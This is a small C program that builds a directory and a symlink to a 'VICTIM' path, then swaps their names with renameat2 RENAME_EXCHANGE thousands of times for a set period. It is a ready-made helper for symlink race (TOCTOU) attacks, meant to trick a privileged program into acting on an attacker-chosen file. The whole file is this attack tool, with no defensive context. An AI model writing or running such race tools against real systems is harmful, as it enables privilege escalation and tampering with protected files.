// flip FOLDER VICTIM SECONDS: makes FOLDER and a link to VICTIM beside it, and lets them exchange their names all the time.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define EXCHANGE 2u

int main(int argc, char **argv)
{
	char link[4096];
	time_t end;
	long flips = 0;

	if (argc != 4)
		return 2;
	snprintf(link, sizeof(link), "%s.link", argv[1]);
	mkdir(argv[1], 0700);
	if (symlink(argv[2], link) != 0)
		perror(link);
	end = time(NULL) + atoi(argv[3]);
	while (time(NULL) < end) {
		if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, link, EXCHANGE) == 0)
			flips++;
		usleep(300);
	}
	unlink(argv[1]);
	rmdir(argv[1]);
	unlink(link);
	rmdir(link);
	printf("%ld flips\n", flips);
	return 0;
}
